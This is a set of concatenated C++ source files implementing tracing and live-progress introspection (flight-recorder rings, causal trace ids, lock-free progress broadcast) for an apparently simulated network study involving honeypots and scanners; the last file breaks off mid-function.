// capacity the oldest chunk is evicted and the trace.events_dropped
// counter increments; eviction depends only on the shard's own event
// stream, never on thread count.
//
// Threading: recording is lock-free — a shard's recorder has exactly one
// writer (the thread currently inside its TraceShardScope), and the
// coordinating thread reads only after a synchronization point
// (ThreadPool::wait_idle / pool join). The registry mutex guards only
// recorder creation and merged reads.
//
// Compile-time escape hatch: -DOFH_NO_METRICS turns every recording
// function into an empty inline and mint/current ids into constant 0 —
// the tracing layer is genuinely zero-cost when compiled out. Exporters
// (Chrome trace JSON, attack-chain report) live in core/trace_report.h:
// they need protocol/attack-type/misconfig name tables from higher layers,
// which the base obs library must not depend on.
#pragma once

#include <atomic>
#include <cstdint>
#include <deque>
#include <map>
#include <memory>
#include <mutex>
#include <string_view>
#include <vector>

namespace ofh::obs {

enum class TraceEventType : std::uint8_t {
  kPacketSend,      // fabric accepted a packet
  kPacketDeliver,   // delivered to a host or darknet sink
  kPacketDrop,      // lost (loss model or vanished host)
  kTcpState,        // connection state transition; `a` = TcpTrace code
  kProbe,           // a probe minted a causal id; `a` = TraceProbeOrigin
  kSessionBegin,    // honeypot saw the first event of a (source, protocol)
  kSessionCommand,  // honeypot attack event; `a` = AttackType, `b` = Protocol
  kSessionEnd,      // session idle past the gap; stamped when detected
  kFlowTuple,       // telescope observed a darknet packet
  kBackscatter,     // RSDoS detector accepted a backscatter packet
  kVerdict,         // classifier finding; `a` = Misconfig, `b` = Protocol
  kPacketFault,     // fault injector perturbed a packet; `a` = FaultKind
  kHostFault,       // host-level fault; `a` = 0 crash, 1 restart
};
std::string_view trace_event_name(TraceEventType type);

// TCP transition codes carried in TraceEvent::a for kTcpState events.
enum class TcpTrace : std::uint8_t {
  kSynSent,      // active open issued
  kSynReceived,  // passive open reached SYN_RCVD
  kEstablished,  // active open completed
  kAccepted,     // passive open completed
  kClosed,       // FIN teardown
  kReset,        // RST teardown
  kRefused,      // active open answered with RST
  kTimeout,      // active open expired unanswered
};
std::string_view tcp_trace_name(TcpTrace state);

// Probe origin codes carried in TraceEvent::a for kProbe events.
enum class TraceProbeOrigin : std::uint8_t { kScanner, kAttacker };

// One recorded trace event. 40 bytes; `a`/`b` are type-specific detail
// codes (see the enum comments above). trace_id 0 means "no known origin"
// (e.g. a packet sent outside any probe context).
struct TraceEvent {
  std::uint64_t time = 0;      // sim-time, microseconds
  std::uint64_t trace_id = 0;  // causal id; 0 = unattributed
  std::uint64_t seq = 0;       // per-shard append order (merge tiebreak)
  std::uint32_t src = 0;       // IPv4 of the acting endpoint
  std::uint32_t dst = 0;
  std::uint16_t port = 0;      // destination / service port
  std::uint16_t shard = 0;     // deterministic shard id (0 = main sim)
  TraceEventType type = TraceEventType::kPacketSend;
  std::uint8_t a = 0;
  std::uint8_t b = 0;
};

// Default per-shard ring capacities (events). Packet-level traffic dwarfs
// session-level narrative, so the classes evict independently.
inline constexpr std::size_t kDefaultPacketRingEvents = 1u << 16;
inline constexpr std::size_t kDefaultSessionRingEvents = 1u << 15;

// Per-shard flight recorder: two chunked rings plus the shard's causal-id
// mint. Single-writer by contract (see the threading note above); obtain
// through TraceRegistry / TraceShardScope, never construct directly.
class TraceRecorder {
 public:
  void record(TraceEvent event);

  // Mints the next causal id for this shard: (shard + 1) << 40 | n.
  std::uint64_t mint() {
    return ((static_cast<std::uint64_t>(shard_) + 1) << 40) | ++minted_;
  }

  std::uint16_t shard() const { return shard_; }
  // recorded/dropped are atomics so the live introspection layer can read
  // them while the owning shard records (single writer, racing readers).
  // Within the shard they remain plain single-writer counters: the writer
  // uses store(load + 1) — no RMW cost on the hot path.
  std::uint64_t recorded() const {
    return recorded_.load(std::memory_order_relaxed);
  }
  std::uint64_t dropped() const {
    return dropped_.load(std::memory_order_relaxed);
  }

 private:
  friend class TraceRegistry;

  // A fixed-capacity ring over a chunked arena: appends go to the newest
  // chunk, eviction pops whole oldest chunks once the event count exceeds
  // the capacity. Chunk size derives from capacity alone, so eviction is a
  // pure function of the event stream.
  struct Ring {
    std::deque<std::vector<TraceEvent>> chunks;
    std::size_t capacity = 0;
    std::size_t chunk_events = 0;
    std::size_t events = 0;
  };

  explicit TraceRecorder(std::uint16_t shard) : shard_(shard) {}
  Ring& ring_for(TraceEventType type);
  static bool is_session_class(TraceEventType type);
  void configure(Ring& ring, std::size_t capacity);
  void clear();

  std::uint16_t shard_;
  Ring packet_ring_;
  Ring session_ring_;
  std::uint64_t next_seq_ = 0;
  std::uint64_t minted_ = 0;
  std::atomic<std::uint64_t> recorded_{0};
  std::atomic<std::uint64_t> dropped_{0};
};

// Per-shard recorded/dropped totals a concurrent reader can take while the
// shards record (obs/introspect.h folds these into LiveSnapshot). Ring
// occupancy is recorded - dropped; the ring structures themselves are
// single-writer and are never touched by live readers.
struct TraceShardStats {
  std::uint16_t shard = 0;
  std::uint64_t recorded = 0;
  std::uint64_t dropped = 0;
};

class TraceRegistry {
 public:
  // The process-wide registry (leaked for the same teardown reason as
  // obs::Registry: thread-local recorder caches may outlive statics).
  static TraceRegistry& global();

  // Finds or creates the recorder for a shard. Cold path (mutex); the hot
  // path caches the pointer thread-locally via TraceShardScope.
  TraceRecorder& recorder(std::uint16_t shard);

  // Reconfigures ring capacities for every current and future recorder.
  // Call from the coordinating thread only (e.g. before a Study run);
  // values clamp to >= 16 events.
  void set_capacity(std::size_t packet_events, std::size_t session_events);
  std::size_t packet_capacity() const;
  std::size_t session_capacity() const;

  // Drops every recorded event and resets seq/mint/drop counters; keeps
  // recorder objects (thread-local caches stay valid) and capacities.
  // Coordinating thread only, while no shard scope is live.
  void reset();

  // Replaces one shard's recorder contents with a stream shipped from a
  // worker process (dist/protocol.h RESULT frames). Events are appended
  // verbatim — seq stamps preserved, no re-stamping, and deliberately no
  // eviction: the worker ran the identical ring capacities, so its shipped
  // stream already reflects the same deterministic eviction this process
  // would have performed. merged() therefore stays byte-identical to the
  // in-process run. Caller guarantees every event.shard == shard.
  // Coordinating thread only, while no shard scope is live.
  void absorb(std::uint16_t shard, const std::vector<TraceEvent>& events,
              std::uint64_t recorded, std::uint64_t dropped);

  // Merged view of every shard's rings, sorted by (time, shard, seq) — a
  // total order, so the result is byte-identical for any thread count.
  // Call from the coordinating thread after a synchronization point.
  std::vector<TraceEvent> merged() const;

  std::uint64_t events_recorded() const;
  std::uint64_t events_dropped() const;

  // Live per-shard stats, sorted by shard id. Safe to call while shards
  // record: the mutex guards only the recorder map, and the counters are
  // atomics (see TraceRecorder).
  std::vector<TraceShardStats> live_stats() const;

 private:
  TraceRegistry() = default;

  mutable std::mutex mutex_;
  std::map<std::uint16_t, std::unique_ptr<TraceRecorder>> recorders_;
  std::size_t packet_capacity_ = kDefaultPacketRingEvents;
  std::size_t session_capacity_ = kDefaultSessionRingEvents;
};

#ifndef OFH_NO_METRICS

namespace trace_detail {
// Thread-local recording state. The recorder pointer is bound by
// TraceShardScope (worker shards) or lazily to shard 0 (the coordinating
// thread); the ambient trace id is bound by TraceContext while a host
// handles a delivered packet.
TraceRecorder& current_recorder();
extern thread_local TraceRecorder* tl_recorder;
extern thread_local std::uint64_t tl_trace_id;
}  // namespace trace_detail

// Records one event into the current shard's flight recorder.
void trace_event(TraceEventType type, std::uint64_t when,
                 std::uint64_t trace_id, std::uint32_t src, std::uint32_t dst,
                 std::uint16_t port, std::uint8_t a = 0, std::uint8_t b = 0);

// Mints a fresh causal id from the current shard: (shard + 1) << 40 | n,
// where n counts mints within the shard — deterministic for any thread
// count because shards are deterministic.
std::uint64_t mint_trace_id();

// The ambient causal id (0 outside any TraceContext).
inline std::uint64_t current_trace_id() { return trace_detail::tl_trace_id; }

// Binds the current shard recorder for the scope's lifetime. The parallel
// scan layer opens one per sweep job; nesting restores the previous
// binding. A shard must never be bound on two threads at once.
class TraceShardScope {
 public:
  explicit TraceShardScope(std::uint16_t shard)
      : previous_(trace_detail::tl_recorder) {
    trace_detail::tl_recorder = &TraceRegistry::global().recorder(shard);
  }
  ~TraceShardScope() { trace_detail::tl_recorder = previous_; }
  TraceShardScope(const TraceShardScope&) = delete;
  TraceShardScope& operator=(const TraceShardScope&) = delete;

 private:
  TraceRecorder* previous_;
};

// Publishes a causal id as the ambient context for the scope's lifetime.
// Host::deliver opens one around packet dispatch; probes open one around
// the sends their minted id should ride on.
class TraceContext {
 public:
  explicit TraceContext(std::uint64_t id)
      : previous_(trace_detail::tl_trace_id) {
    trace_detail::tl_trace_id = id;
  }
  ~TraceContext() { trace_detail::tl_trace_id = previous_; }
  TraceContext(const TraceContext&) = delete;
  TraceContext& operator=(const TraceContext&) = delete;

 private:
  std::uint64_t previous_;
};

#else  // OFH_NO_METRICS: the whole recording surface compiles to nothing.

inline void trace_event(TraceEventType, std::uint64_t, std::uint64_t,
                        std::uint32_t, std::uint32_t, std::uint16_t,
                        std::uint8_t = 0, std::uint8_t = 0) {}
inline std::uint64_t mint_trace_id() { return 0; }
inline std::uint64_t current_trace_id() { return 0; }

class TraceShardScope {
 public:
  explicit TraceShardScope(std::uint16_t) {}
};

class TraceContext {
 public:
  explicit TraceContext(std::uint64_t) {}
};

#endif  // OFH_NO_METRICS

}  // namespace ofh::obs
