// Live study introspection: consistent snapshots and a typed progress
// stream that concurrent readers can consume *while* scan shards write.
//
// Three pieces:
//   * ProgressRing — a bounded multi-producer broadcast ring of typed
//     ProgressEvents. Writers never block and never wait for readers; every
//     reader owns a cursor and observes the stream independently, counting
//     events the ring lapped before it arrived as `lost`. All slot accesses
//     are explicit-order atomics, so the ring is clean under
//     ThreadSanitizer (tests/introspect_thread_test.cpp hammers it).
//   * IntrospectionHub — the per-study board: a single-writer seqlock over
//     (phase, sim_now, sim_day), append-only per-sweep progress slots that
//     worker shards update with relaxed stores, per-kind event counters,
//     and mutex-guarded boundary blobs (phase metrics, degradation text)
//     that only change at phase boundaries. snapshot() folds the board
//     with Registry::snapshot() and TraceRegistry::live_stats() into an
//     epoch-stamped LiveSnapshot.
//   * ProgressSampler — the wall-domain half: derives hosts/sec and
//     packets/sec from snapshot deltas, reads RSS via obs/proc_stat.h into
//     Domain::kWall gauges, and estimates a per-phase ETA from sweep
//     progress. Lives here (src/obs) because wall clocks are quarantined to
//     this directory by the determinism lint.
//
// Determinism contract: the write side is part of the deterministic
// pipeline — every publish() is triggered by a deterministic point in a
// shard's event stream (phase boundaries, per-shard progress strides,
// sim-day advances), so the per-kind event *counts* and the final board
// state are byte-identical for any scan_threads value; only the ring
// interleaving (which the deterministic exports never read) is
// schedule-dependent. The read side never writes anything a deterministic
// export consumes. tests/introspect_test.cpp proves exports stay
// byte-identical with a polling reader attached.
#pragma once

#include <array>
#include <atomic>
#include <chrono>
#include <cstddef>
#include <cstdint>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "obs/metrics.h"
#include "obs/trace.h"

namespace ofh::obs {

// ------------------------------------------------------------------ events

enum class ProgressKind : std::uint8_t {
  kPhaseEnter = 0,   // a = 0, b = 0
  kPhaseExit,        // a = phase sim duration (usec)
  kSweepProgress,    // shard = sweep slot + 1; a = targets done, b = total
  kSweepDone,        // shard = sweep slot + 1; a = targets done, b = total
  kSimDayAdvance,    // a = attack events so far, b = telescope flowtuples
};
inline constexpr std::size_t kProgressKindCount = 5;
std::string_view progress_kind_name(ProgressKind kind);

struct ProgressEvent {
  std::uint64_t seq = 0;  // ring ticket; assigned by publish()
  ProgressKind kind = ProgressKind::kPhaseEnter;
  std::uint8_t phase = 0;
  std::uint16_t shard = 0;
  std::uint64_t sim_time = 0;
  std::uint64_t a = 0;
  std::uint64_t b = 0;
};

// -------------------------------------------------------------------- ring

inline constexpr std::size_t kDefaultProgressRingEvents = 1u << 12;

// Bounded broadcast ring. Multi-producer publish via ticket claim;
// any number of readers poll with private cursors and never affect
// writers. Overwrite-on-full: a slow reader loses old events (counted per
// cursor), it never applies backpressure to the simulation.
class ProgressRing {
 public:
  // Capacity rounds up to a power of two, minimum 16.
  explicit ProgressRing(std::size_t capacity = kDefaultProgressRingEvents);
  ProgressRing(const ProgressRing&) = delete;
  ProgressRing& operator=(const ProgressRing&) = delete;

  void publish(const ProgressEvent& event);

  struct Cursor {
    std::uint64_t next = 0;  // ticket of the next event to read
    std::uint64_t lost = 0;  // events overwritten before this reader saw them
  };

  // Copies up to `max` published events starting at cursor.next, advancing
  // the cursor. Never blocks; returns the number copied. Events the ring
  // lapped are skipped and added to cursor.lost.
  std::size_t poll(Cursor& cursor, ProgressEvent* out, std::size_t max) const;

  // Total events ever published (the ring's head ticket).
  std::uint64_t published() const {
    return head_.load(std::memory_order_acquire);
  }
  std::size_t capacity() const { return capacity_; }

 private:
  // Marker protocol: 0 = never written, kBusyMarker = claimed by a writer,
  // ticket + 1 = published. Writers CAS the marker to busy before touching
  // payload words, so a reader that observes any payload word from writer W
  // is guaranteed (release/acquire on the payload stores) to observe W's
  // busy marker too — torn events can never validate.
  static constexpr std::uint64_t kBusyMarker = ~std::uint64_t{0};

  struct Slot {
    std::atomic<std::uint64_t> marker{0};
    std::array<std::atomic<std::uint64_t>, 4> words{};
  };

  std::size_t capacity_;
  std::size_t mask_;
  std::unique_ptr<Slot[]> slots_;
  std::atomic<std::uint64_t> head_{0};
};

// --------------------------------------------------------------- snapshots

struct SweepProgress {
  std::string name;         // protocol being swept
  std::uint64_t done = 0;   // targets resolved so far
  std::uint64_t total = 0;  // targets in the sweep
};

struct LiveSnapshot {
  std::uint64_t epoch = 0;  // board write count; never regresses
  std::uint8_t phase = 0;
  std::string phase_name;
  std::uint64_t sim_now = 0;  // sim-time, microseconds
  std::uint64_t sim_day = 0;
  std::array<std::uint64_t, kProgressKindCount> kind_counts{};
  std::uint64_t events_published = 0;  // ring head
  std::vector<SweepProgress> sweeps;
  std::uint64_t sweep_done = 0;   // fold over sweeps
  std::uint64_t sweep_total = 0;
  std::uint64_t trace_recorded = 0;
  std::uint64_t trace_dropped = 0;
  std::vector<TraceShardStats> trace_shards;
  std::vector<MetricRow> metrics;  // Registry::snapshot(); empty if skipped
};

// --------------------------------------------------------------------- hub

inline constexpr std::size_t kMaxSweepSlots = 32;

class IntrospectionHub {
 public:
  explicit IntrospectionHub(
      std::size_t ring_capacity = kDefaultProgressRingEvents);

  // ---- write side: coordinating thread ----------------------------------

  // Seqlock board update. Single writer by contract (the study's
  // coordinating thread); concurrent readers retry until they observe a
  // consistent (phase, sim_now, sim_day) triple.
  void set_board(std::uint8_t phase, std::uint64_t sim_now,
                 std::uint64_t sim_day);
  std::uint8_t current_phase() const {
    return static_cast<std::uint8_t>(
        board_phase_.load(std::memory_order_acquire));
  }

  // Registers the display name for a phase id (mutex; boundary path).
  void set_phase_name(std::uint8_t phase, std::string_view name);

  // Appends a sweep slot before workers start and returns its index (or
  // kMaxSweepSlots if the table is full — updates to a full table are
  // dropped, never trampled). Slots are append-only for the hub's
  // lifetime: readers acquire the count and may touch name/total of every
  // slot below it without locks.
  std::size_t add_sweep(std::string_view name, std::uint64_t total);

  // Boundary text blobs, replaced wholesale at phase boundaries (mutex).
  enum class TextSlot : std::uint8_t { kPhaseMetrics = 0, kDegradation };
  void set_text(TextSlot slot, std::string text);
  std::string text(TextSlot slot) const;

  // ---- write side: any thread -------------------------------------------

  // Monotonic progress store for a sweep slot (worker shards; lock-free).
  void update_sweep(std::size_t slot, std::uint64_t done) {
    if (slot >= kMaxSweepSlots) return;
    sweeps_[slot].done.store(done, std::memory_order_release);
  }

  // Counts the event and broadcasts it into the ring (lock-free).
  void publish(ProgressKind kind, std::uint8_t phase, std::uint16_t shard,
               std::uint64_t sim_time, std::uint64_t a = 0,
               std::uint64_t b = 0);

  // ---- read side: any thread --------------------------------------------

  // Epoch-stamped consistent fold of board + sweeps + counters + trace
  // stats (+ the metrics registry unless skipped; skipping keeps the
  // deterministic progress-summary report independent of metric content).
  LiveSnapshot snapshot(bool include_metrics = true) const;

  std::size_t poll(ProgressRing::Cursor& cursor, ProgressEvent* out,
                   std::size_t max) const {
    return ring_.poll(cursor, out, max);
  }
  const ProgressRing& ring() const { return ring_; }
  std::uint64_t kind_count(ProgressKind kind) const {
    return kind_counts_[static_cast<std::size_t>(kind)].load(
        std::memory_order_acquire);
  }

 private:
  struct SweepSlot {
    std::string name;                     // set before count is published
    std::atomic<std::uint64_t> total{0};  // set before count is published
    std::atomic<std::uint64_t> done{0};   // monotonic; worker-written
  };

  ProgressRing ring_;

  // Seqlock: odd = write in progress. The field stores are release so a
  // reader that observed a torn value is guaranteed to also observe the
  // odd version and retry (same argument as ProgressRing's marker).
  std::atomic<std::uint64_t> board_version_{0};
  std::atomic<std::uint64_t> board_phase_{0};
  std::atomic<std::uint64_t> board_sim_now_{0};
  std::atomic<std::uint64_t> board_sim_day_{0};

  std::array<SweepSlot, kMaxSweepSlots> sweeps_;
  std::atomic<std::uint64_t> sweep_count_{0};

  std::array<std::atomic<std::uint64_t>, kProgressKindCount> kind_counts_{};

  mutable std::mutex mutex_;  // phase names + boundary text blobs
  std::array<std::string, 256> phase_names_;
  std::string phase_metrics_text_;
  std::string degradation_text_;
};

// ----------------------------------------------------------------- sampler

// Wall-domain throughput/memory/ETA derivation. tick() is called from the
// status service's poll loop (or any wall-side driver); it rate-limits
// itself, publishes process.rss_bytes / process.vm_hwm_bytes as
// Domain::kWall gauges, and keeps the latest derived stats for servers to
// report. Never touches the hub's write side.
struct SamplerStats {
  std::uint64_t ticks = 0;
  std::uint64_t rss_bytes = 0;
  std::uint64_t vm_hwm_bytes = 0;
  double wall_elapsed_seconds = 0.0;
  double hosts_per_sec = 0.0;    // sweep targets resolved per wall second
  double packets_per_sec = 0.0;  // fabric.packets_sent per wall second
  double eta_seconds = -1.0;     // sweep-phase ETA; < 0 = unknown
};

class ProgressSampler {
 public:
  explicit ProgressSampler(const IntrospectionHub& hub,
                           std::uint64_t min_interval_ms = 100);

  // Samples if at least min_interval_ms elapsed since the last tick (force
  // skips the rate limit). Returns the current stats either way.
  SamplerStats tick(bool force = false);
  SamplerStats last() const;

 private:
  const IntrospectionHub* hub_;
  std::uint64_t min_interval_ms_;
  Gauge rss_gauge_;
  Gauge hwm_gauge_;
  std::int64_t rss_published_ = 0;  // gauges are delta-based; track last
  std::int64_t hwm_published_ = 0;

  mutable std::mutex mutex_;
  SamplerStats stats_;
  bool have_anchor_ = false;
  std::chrono::steady_clock::time_point start_;
  std::chrono::steady_clock::time_point last_tick_;
  std::uint64_t last_hosts_ = 0;
  std::uint64_t last_packets_ = 0;
};

}  // namespace ofh::obs
