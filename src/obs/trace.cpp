#include "obs/trace.h"

#include <algorithm>

namespace ofh::obs {
namespace {

// Clamp floor for ring capacities: small enough for wraparound tests,
// large enough that a chunk always holds a few events.
constexpr std::size_t kMinRingEvents = 16;

// Chunks per ring at capacity. Eviction granularity is capacity / kChunks,
// so a full ring keeps at least (kChunks - 1) / kChunks of its capacity
// after evicting the oldest chunk.
constexpr std::size_t kChunksPerRing = 8;

std::size_t chunk_events_for(std::size_t capacity) {
  return std::max<std::size_t>(1, capacity / kChunksPerRing);
}

}  // namespace

std::string_view trace_event_name(TraceEventType type) {
  switch (type) {
    case TraceEventType::kPacketSend: return "packet_send";
    case TraceEventType::kPacketDeliver: return "packet_deliver";
    case TraceEventType::kPacketDrop: return "packet_drop";
    case TraceEventType::kTcpState: return "tcp_state";
    case TraceEventType::kProbe: return "probe";
    case TraceEventType::kSessionBegin: return "session_begin";
    case TraceEventType::kSessionCommand: return "session_command";
    case TraceEventType::kSessionEnd: return "session_end";
    case TraceEventType::kFlowTuple: return "flowtuple";
    case TraceEventType::kBackscatter: return "backscatter";
    case TraceEventType::kVerdict: return "verdict";
    case TraceEventType::kPacketFault: return "packet_fault";
    case TraceEventType::kHostFault: return "host_fault";
  }
  return "unknown";
}

std::string_view tcp_trace_name(TcpTrace state) {
  switch (state) {
    case TcpTrace::kSynSent: return "syn_sent";
    case TcpTrace::kSynReceived: return "syn_received";
    case TcpTrace::kEstablished: return "established";
    case TcpTrace::kAccepted: return "accepted";
    case TcpTrace::kClosed: return "closed";
    case TcpTrace::kReset: return "reset";
    case TcpTrace::kRefused: return "refused";
    case TcpTrace::kTimeout: return "timeout";
  }
  return "unknown";
}

bool TraceRecorder::is_session_class(TraceEventType type) {
  switch (type) {
    case TraceEventType::kSessionBegin:
    case TraceEventType::kSessionCommand:
    case TraceEventType::kSessionEnd:
    case TraceEventType::kVerdict:
    case TraceEventType::kHostFault:  // rare narrative events, keep with
      return true;                    // the sessions they interrupt
    default:
      return false;
  }
}

TraceRecorder::Ring& TraceRecorder::ring_for(TraceEventType type) {
  return is_session_class(type) ? session_ring_ : packet_ring_;
}

void TraceRecorder::configure(Ring& ring, std::size_t capacity) {
  ring.capacity = std::max(capacity, kMinRingEvents);
  ring.chunk_events = chunk_events_for(ring.capacity);
}

void TraceRecorder::clear() {
  packet_ring_.chunks.clear();
  packet_ring_.events = 0;
  session_ring_.chunks.clear();
  session_ring_.events = 0;
  next_seq_ = 0;
  minted_ = 0;
  recorded_.store(0, std::memory_order_relaxed);
  dropped_.store(0, std::memory_order_relaxed);
}

void TraceRecorder::record(TraceEvent event) {
  event.shard = shard_;
  event.seq = next_seq_++;
  // Single-writer increment (no RMW): live readers only need atomicity.
  recorded_.store(recorded_.load(std::memory_order_relaxed) + 1,
                  std::memory_order_relaxed);

  Ring& ring = ring_for(event.type);
  if (ring.chunks.empty() || ring.chunks.back().size() >= ring.chunk_events) {
    ring.chunks.emplace_back();
    ring.chunks.back().reserve(ring.chunk_events);
  }
  ring.chunks.back().push_back(event);
  ++ring.events;
  while (ring.events > ring.capacity && ring.chunks.size() > 1) {
    const std::size_t evicted = ring.chunks.front().size();
    ring.events -= evicted;
    dropped_.store(dropped_.load(std::memory_order_relaxed) + evicted,
                   std::memory_order_relaxed);
    ring.chunks.pop_front();
  }
}

TraceRegistry& TraceRegistry::global() {
  static TraceRegistry* const instance = new TraceRegistry();
  return *instance;
}

TraceRecorder& TraceRegistry::recorder(std::uint16_t shard) {
  std::lock_guard<std::mutex> lock(mutex_);
  auto it = recorders_.find(shard);
  if (it == recorders_.end()) {
    auto owned = std::unique_ptr<TraceRecorder>(new TraceRecorder(shard));
    owned->configure(owned->packet_ring_, packet_capacity_);
    owned->configure(owned->session_ring_, session_capacity_);
    it = recorders_.emplace(shard, std::move(owned)).first;
  }
  return *it->second;
}

void TraceRegistry::set_capacity(std::size_t packet_events,
                                 std::size_t session_events) {
  std::lock_guard<std::mutex> lock(mutex_);
  packet_capacity_ = std::max(packet_events, kMinRingEvents);
  session_capacity_ = std::max(session_events, kMinRingEvents);
  for (auto& [shard, recorder] : recorders_) {
    recorder->configure(recorder->packet_ring_, packet_capacity_);
    recorder->configure(recorder->session_ring_, session_capacity_);
  }
}

std::size_t TraceRegistry::packet_capacity() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return packet_capacity_;
}

std::size_t TraceRegistry::session_capacity() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return session_capacity_;
}

void TraceRegistry::reset() {
  std::lock_guard<std::mutex> lock(mutex_);
  for (auto& [shard, recorder] : recorders_) {
    recorder->clear();
  }
}

void TraceRegistry::absorb(std::uint16_t shard,
                           const std::vector<TraceEvent>& events,
                           std::uint64_t recorded, std::uint64_t dropped) {
  TraceRecorder& rec = recorder(shard);
  // Single-writer mutation, same contract as record(): the coordinating
  // thread owns this shard while absorbing. Live readers only touch the
  // atomic counters below.
  rec.clear();
  std::uint64_t next_seq = 0;
  for (const TraceEvent& event : events) {
    TraceRecorder::Ring& ring = rec.ring_for(event.type);
    if (ring.chunks.empty() ||
        ring.chunks.back().size() >= ring.chunk_events) {
      ring.chunks.emplace_back();
      ring.chunks.back().reserve(ring.chunk_events);
    }
    ring.chunks.back().push_back(event);
    ++ring.events;
    next_seq = std::max(next_seq, event.seq + 1);
  }
  rec.next_seq_ = next_seq;
  rec.recorded_.store(recorded, std::memory_order_relaxed);
  rec.dropped_.store(dropped, std::memory_order_relaxed);
}

std::vector<TraceEvent> TraceRegistry::merged() const {
  std::vector<TraceEvent> events;
  {
    std::lock_guard<std::mutex> lock(mutex_);
    std::size_t total = 0;
    for (const auto& [unused_shard, recorder] : recorders_) {
      total += recorder->packet_ring_.events + recorder->session_ring_.events;
    }
    events.reserve(total);
    for (const auto& [unused_shard, recorder] : recorders_) {
      for (const TraceRecorder::Ring* ring :
           {&recorder->packet_ring_, &recorder->session_ring_}) {
        for (const auto& chunk : ring->chunks) {
          events.insert(events.end(), chunk.begin(), chunk.end());
        }
      }
    }
  }
  std::sort(events.begin(), events.end(),
            [](const TraceEvent& lhs, const TraceEvent& rhs) {
              if (lhs.time != rhs.time) return lhs.time < rhs.time;
              if (lhs.shard != rhs.shard) return lhs.shard < rhs.shard;
              return lhs.seq < rhs.seq;
            });
  return events;
}

std::uint64_t TraceRegistry::events_recorded() const {
  std::lock_guard<std::mutex> lock(mutex_);
  std::uint64_t total = 0;
  for (const auto& [unused_shard, recorder] : recorders_) {
    total += recorder->recorded_.load(std::memory_order_relaxed);
  }
  return total;
}

std::uint64_t TraceRegistry::events_dropped() const {
  std::lock_guard<std::mutex> lock(mutex_);
  std::uint64_t total = 0;
  for (const auto& [unused_shard, recorder] : recorders_) {
    total += recorder->dropped_.load(std::memory_order_relaxed);
  }
  return total;
}

std::vector<TraceShardStats> TraceRegistry::live_stats() const {
  std::lock_guard<std::mutex> lock(mutex_);
  std::vector<TraceShardStats> stats;
  stats.reserve(recorders_.size());
  for (const auto& [shard, recorder] : recorders_) {
    TraceShardStats row;
    row.shard = shard;
    row.recorded = recorder->recorded_.load(std::memory_order_relaxed);
    row.dropped = recorder->dropped_.load(std::memory_order_relaxed);
    stats.push_back(row);  // map iteration: already sorted by shard id
  }
  return stats;
}

#ifndef OFH_NO_METRICS

namespace trace_detail {

thread_local TraceRecorder* tl_recorder = nullptr;
thread_local std::uint64_t tl_trace_id = 0;

TraceRecorder& current_recorder() {
  if (tl_recorder == nullptr) {
    // Threads with no TraceShardScope (the coordinating thread, tests)
    // record into the main-simulation shard.
    tl_recorder = &TraceRegistry::global().recorder(0);
  }
  return *tl_recorder;
}

}  // namespace trace_detail

void trace_event(TraceEventType type, std::uint64_t when,
                 std::uint64_t trace_id, std::uint32_t src, std::uint32_t dst,
                 std::uint16_t port, std::uint8_t a, std::uint8_t b) {
  TraceEvent event;
  event.time = when;
  event.trace_id = trace_id;
  event.src = src;
  event.dst = dst;
  event.port = port;
  event.type = type;
  event.a = a;
  event.b = b;
  trace_detail::current_recorder().record(event);
}

std::uint64_t mint_trace_id() { return trace_detail::current_recorder().mint(); }

#endif  // OFH_NO_METRICS

}  // namespace ofh::obs
