#include "obs/introspect.h"

#include <algorithm>
#include <bit>

#include "obs/proc_stat.h"

namespace ofh::obs {

std::string_view progress_kind_name(ProgressKind kind) {
  switch (kind) {
    case ProgressKind::kPhaseEnter: return "phase-enter";
    case ProgressKind::kPhaseExit: return "phase-exit";
    case ProgressKind::kSweepProgress: return "sweep-progress";
    case ProgressKind::kSweepDone: return "sweep-done";
    case ProgressKind::kSimDayAdvance: return "day-advance";
  }
  return "?";
}

// -------------------------------------------------------------------- ring

namespace {

// word 0 packs the small fields; words 1..3 carry sim_time / a / b.
std::uint64_t pack_header(const ProgressEvent& event) {
  return static_cast<std::uint64_t>(event.kind) |
         (static_cast<std::uint64_t>(event.phase) << 8) |
         (static_cast<std::uint64_t>(event.shard) << 16);
}

void unpack_header(std::uint64_t word, ProgressEvent& event) {
  event.kind = static_cast<ProgressKind>(word & 0xff);
  event.phase = static_cast<std::uint8_t>((word >> 8) & 0xff);
  event.shard = static_cast<std::uint16_t>((word >> 16) & 0xffff);
}

}  // namespace

ProgressRing::ProgressRing(std::size_t capacity)
    : capacity_(std::bit_ceil(std::max<std::size_t>(capacity, 16))),
      mask_(capacity_ - 1),
      slots_(new Slot[capacity_]) {}

void ProgressRing::publish(const ProgressEvent& event) {
  const std::uint64_t ticket = head_.fetch_add(1, std::memory_order_relaxed);
  Slot& slot = slots_[ticket & mask_];
  // Claim the slot: CAS whatever published/stale marker is there to busy.
  // A writer lapped onto a slot mid-write spins for the handful of stores
  // the owner still needs — the owner never waits on anyone, so this is
  // wait-bounded and deadlock-free.
  std::uint64_t seen = slot.marker.load(std::memory_order_relaxed);
  for (;;) {
    if (seen != kBusyMarker &&
        slot.marker.compare_exchange_weak(seen, kBusyMarker,
                                          std::memory_order_acq_rel,
                                          std::memory_order_relaxed)) {
      break;
    }
    seen = slot.marker.load(std::memory_order_relaxed);
  }
  // Release stores: any reader that observes one of these payload words
  // also observes the busy marker stored before it (via the CAS above),
  // so its second marker check cannot validate a torn copy.
  slot.words[0].store(pack_header(event), std::memory_order_release);
  slot.words[1].store(event.sim_time, std::memory_order_release);
  slot.words[2].store(event.a, std::memory_order_release);
  slot.words[3].store(event.b, std::memory_order_release);
  slot.marker.store(ticket + 1, std::memory_order_release);
}

std::size_t ProgressRing::poll(Cursor& cursor, ProgressEvent* out,
                               std::size_t max) const {
  const std::uint64_t head = head_.load(std::memory_order_acquire);
  // Events older than one full lap are gone by construction.
  if (head >= capacity_ && cursor.next < head - capacity_) {
    cursor.lost += (head - capacity_) - cursor.next;
    cursor.next = head - capacity_;
  }
  std::size_t produced = 0;
  while (produced < max && cursor.next < head) {
    const Slot& slot = slots_[cursor.next & mask_];
    const std::uint64_t want = cursor.next + 1;
    const std::uint64_t before = slot.marker.load(std::memory_order_acquire);
    if (before != want) {
      if (before != kBusyMarker && before > want) {
        // A later lap already published here: this event is gone.
        ++cursor.lost;
        ++cursor.next;
        continue;
      }
      // Busy or stale: the writer holding this ticket (or a lapping one)
      // has not finished. Stop; the caller polls again later.
      break;
    }
    ProgressEvent event;
